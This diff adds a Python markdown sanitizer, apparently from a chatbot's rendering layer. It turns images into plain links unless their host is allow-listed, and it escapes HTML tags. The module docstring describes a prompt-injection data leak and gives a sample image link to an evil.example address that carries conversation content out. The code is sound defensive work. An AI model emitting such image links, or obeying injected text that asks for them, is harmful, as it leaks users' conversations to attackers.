@@ -1,0 +1,139 @@
+"""Markdown in which nothing is loaded: images become links, HTML becomes visible text.
+
+Whoever can write into what a model reads can let it write `![](https://evil.example/?d=<what was said>)`, and a client
+that loads the image tells it to them without a click.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Set as AbstractSet
+
+from app.bot.rendering.blocks import Kind, Line, read
+from app.bot.rendering.inline import (
+    AUTOLINK,
+    HARMLESS_TAG,
+    IMAGE_TAG,
+    LONGEST_CODE,
+    LONGEST_LABEL,
+    PUNCTUATION,
+    CodeRuns,
+)
+
+_LIVE = re.compile(rf"(?:\\?!)+|\\{PUNCTUATION}|`+|<")
+_TAG_START = re.compile(r"<[A-Za-z/!?]")
+_NO_LABEL = re.compile(r"[\s\\]{0,20}\]")
+_LABEL = "image"
+_ADDRESS = r"https?://([A-Za-z0-9.-]{1,253})(?::[0-9]{1,5})?(?:[/?#][\w.~:/?#@$&*+,;=%-]{0,1500})?"
+_WEB_ADDRESS = re.compile(_ADDRESS, re.ASCII)
+_IMAGE = re.compile(
+    rf"""\[[^\[\]!<>`\\\n]{{0,{LONGEST_LABEL - 4}}}\]\({_ADDRESS}(?: "[^"\\\n<>]{{0,300}}")?\)""", re.ASCII
+)
+_ATTRIBUTE = re.compile(r"""[\s/"'](src|alt)[ \t]{0,5}=[ \t]{0,5}("[^"]*"|'[^']*'|[^\s"'>]+)""", re.IGNORECASE)
+_NOT_IN_A_LABEL = re.compile(r"[^\w .,:;()/-]")
+_CELL_END = re.compile(r"\\.|\|")
+_LONGEST_DELIMITER = 1_000
+
+
+def sanitize(text: str, image_hosts: AbstractSet[str] = frozenset()) -> str:
+    """`text` with links for images, except for those that come from `image_hosts`; code stays as it is written."""
+    if "<" not in text and "![" not in text:
+        return text
+    sanitizer = _Sanitizer(image_hosts)
+    return "".join(sanitizer.line(line, text[line.start + len(line.body) : line.end]) for line in read(text))
+
+
+class _Sanitizer:
+    def __init__(self, image_hosts: AbstractSet[str]) -> None:
+        self._image_hosts = image_hosts
+        # In a paragraph in which a run of backticks is left open at the end of a line, no code is certainly code.
+        self._doubt = False
+        self._pipe_in_code = False
+
+    def line(self, line: Line, line_end: str) -> str:
+        body = line.body
+        if line.kind is Kind.BLANK or line.literal:
+            self._doubt = self._pipe_in_code = False
+            return body + line_end
+        after_pipe_in_code, self._pipe_in_code = self._pipe_in_code, False
+        if line.fence is not None:
+            self._doubt = True
+        if after_pipe_in_code and not body[line.content :][:_LONGEST_DELIMITER].strip("|:- \t\r"):
+            # Under it, the line before would be cells, and its code none.
+            return f"{body[: line.content]}\\{body[line.content :]}{line_end}"
+        if "<" in body or "`" in body or "![" in body:
+            body = body[: line.content] + self._content(body[line.content :], cells=line.cells)
+        return body + line_end
+
+    def _content(self, text: str, *, cells: bool) -> str:
+        if not cells:
+            return self._neutral(text, cell=False)
+        ends = [found.start() for found in _CELL_END.finditer(text) if found[0] == "|"]
+        starts = [0, *(end + 1 for end in ends)]
+        return "|".join(
+            self._neutral(text[start:end], cell=bool(ends))
+            for start, end in zip(starts, [*ends, len(text)], strict=True)
+        )
+
+    def _neutral(self, text: str, *, cell: bool) -> str:
+        runs = CodeRuns(text)
+        out: list[str] = []
+        position = 0
+        while found := _LIVE.search(text, position):
+            out.append(text[position : found.start()])
+            replaced, position = self._replaced(text, found, runs, cell=cell)
+            out.append(replaced)
+        return "".join([*out, text[position:]])
+
+    def _replaced(self, text: str, found: re.Match[str], runs: CodeRuns, *, cell: bool) -> tuple[str, int]:
+        """What takes the place of `found`, and where to go on."""
+        start, end = found.span()
+        mark = found[0]
+        if mark[-1] == "!":
+            return self._image(text, mark, end) if text.startswith("[", end) else (mark, end)
+        if mark[0] == "`":
+            end = self._code_end(start, end, runs)
+            self._pipe_in_code = self._pipe_in_code or (not cell and "|" in text[start:end])
+            return text[start:end], end
+        if mark == "<":
+            return self._tag(text, start, at_line_start=start == 0 and not cell)
+        if mark == "\\<" and _TAG_START.match(text, start + 1):
+            return "&lt;", end
+        self._doubt = self._doubt or mark == "\\`"
+        return mark, end
+
+    def _code_end(self, start: int, end: int, runs: CodeRuns) -> int:
+        if self._doubt:
+            return end
+        closed = runs.closing(end, end - start)
+        if closed is None or closed - start > LONGEST_CODE:
+            self._doubt = True
+            return end
+        return closed
+
+    def _image(self, text: str, bangs: str, bracket: int) -> tuple[str, int]:
+        image = _IMAGE.match(text, bracket)
+        if image and bangs == "!" and image[1].lower() in self._image_hosts:
+            return bangs + image[0], image.end()
+        if _NO_LABEL.match(text, bracket + 1):
+            return f"[{_LABEL}", bracket + 1
+        return "", bracket
+
+    def _tag(self, text: str, start: int, *, at_line_start: bool) -> tuple[str, int]:
+        link = AUTOLINK.match(text, start)
+        if link is not None:
+            return link[0], link.end()
+        tag = HARMLESS_TAG.match(text, start)
+        # Alone in its line it would begin a block of HTML.
+        if tag is not None and not at_line_start:
+            return tag[0], tag.end()
+        image = IMAGE_TAG.match(text, start)
+        if image is not None:
+            attributes = {name.lower(): value.strip("\"'") for name, value in _ATTRIBUTE.findall(image[0])}
+            address = _WEB_ADDRESS.fullmatch(attributes.get("src", ""))
+            if address is not None:
+                label = " ".join(_NOT_IN_A_LABEL.sub(" ", attributes.get("alt", "")).split()) or _LABEL
+                shown = "!" if address[1].lower() in self._image_hosts else ""
+                apart = " " if text.endswith("!", 0, start) else ""
+                return f"{apart}{shown}[{label}]({address[0]})", image.end()
+        return ("&lt;" if _TAG_START.match(text, start) else "<"), start + 1
